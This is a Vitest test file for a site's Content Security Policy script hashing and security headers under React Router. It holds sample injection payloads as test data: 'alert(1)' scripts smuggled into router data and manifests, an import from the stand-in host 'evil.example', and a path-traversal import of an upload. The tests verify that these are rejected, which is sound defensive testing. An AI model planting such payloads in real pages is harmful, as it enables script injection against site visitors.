import { createHash } from "node:crypto";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { createMemoryRouter, RouterProvider, ScrollRestoration, UNSAFE_FrameworkContext } from "react-router";
import { describe, expect, it } from "vitest";
import { DEFERRED_MODULE_TYPE } from "#common/page-scripts";
import { HEAD_SCRIPT } from "../../app/components/layout/scripts-after-first-paint.tsx";
import {
  baseSecurityHeaders,
  contentSecurityPolicy,
  inlineScriptHashes,
  resourcePolicyHeader,
  routeInlineScripts,
} from "./security-headers.ts";

const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script, "utf8").digest("base64")}'`;
const scriptsOf = (html: string) =>
  [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].map(([, attributes = "", content = ""]) => ({
    attributes,
    content,
  }));

/** `<ScrollRestoration />` as root.tsx draws it, from the React Router installed. */
const scrollScript = renderToStaticMarkup(
  createElement(
    UNSAFE_FrameworkContext.Provider,
    { value: { isSpaMode: false } as never },
    createElement(RouterProvider, {
      router: createMemoryRouter([{ path: "/", element: createElement(ScrollRestoration) }]),
    }),
  ),
);

const CONTEXT =
  '<script>window.__reactRouterContext = {"basename":"/","future":{"v8_middleware":false},"routeDiscovery":{"mode":"lazy"},"ssr":true,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());</script>';
const MODULE_SCRIPT = [
  '<script type="module" async="">;\nimport * as route0 from "/assets/root-DOjxJjHO.js";\nimport * as route1 from "/assets/site-layout-CPkJWZ7j.js";\nimport * as route2 from "/assets/blog-post-Bq1x_9aZ.js";\n',
  '  window.__reactRouterManifest = {\n  "entry": {\n    "module": "/assets/entry.client-Do_2gvl5.js",\n    "imports": [\n      "/assets/rolldown-runtime-C9lg1dbX.js",\n      "/assets/framework-DPKhqAyN.js"\n    ],\n    "css": []\n  },\n',
  '  "routes": {\n    "routes/blog-post": {\n      "id": "routes/blog-post",\n      "path": "blog/:slug",\n      "module": "/assets/blog-post-Bq1x_9aZ.js",\n      "imports": [],\n      "css": []\n    }\n  },\n  "url": "/assets/manifest-2e2d269a.js",\n  "version": "2e2d269a"\n};\n',
  '  window.__reactRouterRouteModules = {"root":route0,"routes/site-layout":route1,"routes/blog-post":route2};\n\nimport("/assets/entry.client-Do_2gvl5.js");</script>',
].join("");
/** Loader data as React Router streams it: a JSON string, `<` escaped; here with a post that quotes a script. */
const ENQUEUE = `<script>window.__reactRouterContext.streamController.enqueue(${JSON.stringify(
  `${JSON.stringify([{ title: "Post", html: "<p>See <script>show()</script></p>" }])}\n`,
).replace(/</g, "\\u003c")});</script>`;
const CLOSE = "<script>window.__reactRouterContext.streamController.close();</script>";
const JSON_LD = '<script type="application/ld+json">{"@context":"https://schema.org","@type":"BlogPosting"}</script>';

/** A blog post as React Router renders it (root.tsx's document), before the server's own changes. */
const page = (content: string) =>
  [
    '<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><title>Post</title>',
    '<link rel="modulepreload" href="/assets/entry.client-Do_2gvl5.js"/><link rel="modulepreload" href="/assets/root-DOjxJjHO.js"/>',
    `</head><body><main>${JSON_LD}<article>${content}</article></main><footer>Footer</footer>`,
    scrollScript,
    CONTEXT,
    MODULE_SCRIPT,
    ENQUEUE,
    CLOSE,
    "</body></html>",
  ].join("");

/**
 * As root.tsx draws it (app/components/layout/scripts-after-first-paint.tsx): the head
 * script first, the module preloads left out, the module script waiting as a data block.
 */
const served = (content: string) =>
  page(content)
    .replace('<meta charSet="utf-8"/>', `<meta charSet="utf-8"/><script>${HEAD_SCRIPT}</script>`)
    .replace(/<link rel="modulepreload"[^>]*>/g, "")
    .replace(
      '<script type="module" async="">',
      `<script type="${DEFERRED_MODULE_TYPE}" data-modulepreloads="[&quot;/assets/entry.client-Do_2gvl5.js&quot;]">`,
    );
/** The scripts the build's routes write whole: the root's head script. */
const ROOT_SCRIPTS = new Set([HEAD_SCRIPT]);
const hashesOf = (html: string) => inlineScriptHashes(html, ROOT_SCRIPTS);

describe("inlineScriptHashes", () => {
  it("hashes every script the server and React Router write, and nothing else", () => {
    const html = served("<p>A post.</p>");
    const running = scriptsOf(html).filter(({ attributes }) => !attributes.includes("ld+json"));
    // The head script, scroll restoration, the context, the module script, the data and its close.
    expect(running).toHaveLength(6);
    expect(running[0]?.content).toBe(HEAD_SCRIPT);
    expect(running.find(({ attributes }) => attributes.includes(DEFERRED_MODULE_TYPE))?.content).toContain(
      "window.__reactRouterRouteModules = ",
    );
    const { hashes, foreign } = hashesOf(html);
    expect(foreign).toEqual([]);
    expect(hashes).toEqual(running.map(({ content }) => hashOf(content)));
  });

  it("hashes React Router's module script as it writes it, not waiting (the page as a test renders it)", () => {
    const html = page("<p>A post.</p>").replace(
      ";\nimport * as route0",
      ';\nimport "/assets/manifest-2e2d269a.js";\nimport * as route0',
    );
    const { hashes, foreign } = hashesOf(html);
    expect(foreign).toEqual([]);
    // Scroll restoration, the context, the module script, the data and its close.
    expect(hashes).toHaveLength(5);
  });

  it("does not hash the head script unless the routes name it", () => {
    const { hashes, foreign } = inlineScriptHashes(served("<p>A post.</p>"));
    expect(hashes).not.toContain(hashOf(HEAD_SCRIPT));
    expect(foreign).toHaveLength(1);
  });

  it("leaves out a script injected into the content, and reports it", () => {
    const clean = hashesOf(served("<p>A post.</p>"));
    const injected = hashesOf(served("<p>A post.</p><script>alert(1)</script>"));
    expect(injected.hashes).not.toContain(hashOf("alert(1)"));
    expect(injected.hashes).toEqual(clean.hashes);
    expect(injected.foreign).toEqual(["alert(1)"]);
    expect(contentSecurityPolicy(injected.hashes)).not.toContain(hashOf("alert(1)"));
  });

  it.each([
    ["a module script", '<script type="module">alert(1)</script>'],
    ["a classic script with a type", '<script type="text/javascript">alert(1)</script>'],
    [
      "the context with code for JSON",
      CONTEXT.replace('{"basename":"/"', '(alert(1),{"basename":"/"').replace(
        ";window.__reactRouterContext.stream",
        ");window.__reactRouterContext.stream",
      ),
    ],
    ["data that is not a string", "<script>window.__reactRouterContext.streamController.enqueue(alert(1));</script>"],
    ["data followed by code", '<script>window.__reactRouterContext.streamController.enqueue("x");alert(1);</script>'],
    [
      "the module script with one more statement",
      MODULE_SCRIPT.replace('\n\nimport("/assets/entry', '\nalert(1);\nimport("/assets/entry'),
    ],
    ["an import from another site", '<script type="module">import("https://evil.example/x.js");</script>'],
    ["an import of an upload", '<script type="module">import("/api/images/blog/x.js");</script>'],
    ["an import climbing out of the assets", '<script type="module">import("/assets/../api/images/x.js");</script>'],
    ["a manifest that is not JSON", '<script type="module">window.__reactRouterManifest = {a: alert(1)};</script>'],
    [
      "route modules that are not route modules",
      '<script type="module">window.__reactRouterRouteModules = {"root":alert};</script>',
    ],
    ["a waiting module script of code", `<script type="${DEFERRED_MODULE_TYPE}">alert(1);</script>`],
    [
      "scroll restoration called with code",
      `<script>${scrollScript.slice(8, scrollScript.lastIndexOf(")(") + 2)}alert(1), null)</script>`,
    ],
  ])("does not hash an imitation: %s", (_name, script) => {
    const html = served(`<p>A post.</p>${script}`);
    const { hashes, foreign } = hashesOf(html);
    const allowed = scriptsOf(html).filter(({ content }) => hashes.includes(hashOf(content)));
    expect(allowed.map(({ content }) => content).join("\n")).not.toMatch(/alert|evil|\/api\//);
    expect(foreign).toHaveLength(1);
  });

  it("gives JSON-LD no hash (a data block is never run), nor a script that copies it", () => {
    const ld = '{"@context":"https://schema.org","@type":"BlogPosting"}';
    const { hashes, foreign } = hashesOf(served(`<script>${ld}</script>`));
    expect(hashes).not.toContain(hashOf(ld));
    expect(foreign).toEqual([ld]);
  });

  it("hashes a route's own constant script only when the build's routes name it", () => {
    const listPages = "(() => { document.title; })();";
    const html = `<html><head><meta charSet="utf-8"/></head><body><script>${listPages}</script></body></html>`;
    const routes = {
      "routes/offline": { module: { handle: { staticDocument: true, inlineScripts: [listPages] } } },
      "routes/home": { module: {} },
    };
    expect(inlineScriptHashes(html).hashes).not.toContain(hashOf(listPages));
    const named = inlineScriptHashes(html, routeInlineScripts(routes));
    expect(named.hashes).toContain(hashOf(listPages));
    expect(named.foreign).toEqual([]);
  });

  it("takes a long page's data quickly", () => {
    const post = `<p>${"Children learned fractions. ".repeat(40_000)}</p>`;
    const html = served(post).replace(
      CLOSE,
      `<script>window.__reactRouterContext.streamController.enqueue(${JSON.stringify(post)});</script>${CLOSE}`,
    );
    const started = performance.now();
    for (let i = 0; i < 10; i++) hashesOf(html);
    expect((performance.now() - started) / 10).toBeLessThan(50);
  });
});

describe("headers", () => {
  it("names no obsolete feature in the Permissions-Policy, and keeps resources to this site", () => {
    expect(baseSecurityHeaders["permissions-policy"]).toBe("camera=(), microphone=(), geolocation=()");
    expect(baseSecurityHeaders["cross-origin-resource-policy"]).toBe("same-origin");
  });

  it.each([
    ["/og-image.png", "cross-origin"],
    ["/og-image.png?v=2", "cross-origin"],
    ["/blog/first-day-at-school/share-image.jpg", "cross-origin"],
    ["/api/images/blog/ab/cd.webp", undefined],
    ["/blog/first-day-at-school", undefined],
    ["/blog/a/b/share-image.jpg", undefined],
    ["/", undefined],
  ])("answers %s with Cross-Origin-Resource-Policy %s in place of same-origin", (url, policy) => {
    expect(resourcePolicyHeader(url)?.["cross-origin-resource-policy"]).toBe(policy);
  });
});
